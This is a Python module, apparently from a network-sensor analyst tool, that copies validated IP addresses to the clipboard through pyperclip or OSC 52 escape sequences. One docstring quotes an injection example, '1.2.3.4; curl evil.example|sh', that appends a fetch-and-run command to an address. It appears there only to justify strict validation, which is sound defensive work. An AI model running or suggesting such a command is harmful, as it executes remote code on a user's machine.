"""Copy a string to the analyst's clipboard: pyperclip where a clipboard exists, else OSC 52.

Over SSH on a headless sensor box pyperclip has no clipboard; the OSC 52 escape sequence asks
the analyst's own terminal to set its clipboard instead. The UI writes that sequence.
"""

from __future__ import annotations

import base64
import contextlib
import ipaddress
import os

from kalipso.text import sanitize


def copyable_ip(value: str | None) -> tuple[str | None, str]:
    """(ip, "") when ``value``, stripped of surrounding whitespace, is exactly one IP address;
    else (None, why nothing is copied). A timeline destination comes from traffic and may read
    '1.2.3.4; curl evil.example|sh': only a value that parses as an address may be copied."""
    if value is None or not value.strip():
        return None, "no IP address here: nothing copied"
    text = value.strip()
    if "%" not in text:  # a scope id ("fe80::1%eth0") may hold any text: never copied
        try:
            ipaddress.ip_address(text)
            return text, ""  # as shown (str() would turn ::ffff:1.2.3.4 into ::ffff:102:304)
        except ValueError:
            pass
    shown = sanitize(text, 40)
    return None, f"'{shown}' is not an IP address: nothing copied"


def osc52(text: str) -> str:
    payload = base64.b64encode(text.encode("utf-8")).decode("ascii")
    seq = f"\x1b]52;c;{payload}\x07"
    # tmux takes a plain OSC 52 itself (set -g set-clipboard on) and forwards it to the outer
    # terminal; its passthrough wrapper would need allow-passthrough. GNU screen needs a DCS.
    if os.environ.get("TERM", "").startswith("screen") and not os.environ.get("TMUX"):
        return f"\x1bP{seq}\x1b\\"
    return seq


def copy(text: str) -> tuple[bool, str]:
    """Try the system clipboard. Returns (copied, how or why not)."""
    if os.environ.get("KALIPSO_CLIPBOARD") == "osc52" or not (
            os.environ.get("DISPLAY") or os.environ.get("WAYLAND_DISPLAY")):
        return False, "no local clipboard"
    try:
        import pyperclip
    except ImportError:
        return False, "pyperclip is not installed"
    devnull = os.open(os.devnull, os.O_WRONLY)
    saved = os.dup(2)
    try:
        os.dup2(devnull, 2)  # xclip's "Can't open display" must not garble the screen
        pyperclip.copy(text)
        return True, "clipboard"
    except Exception as exc:  # pyperclip.PyperclipException and friends
        return False, str(exc).splitlines()[0] if str(exc) else type(exc).__name__
    finally:
        os.dup2(saved, 2)
        os.close(saved)
        with contextlib.suppress(OSError):
            os.close(devnull)
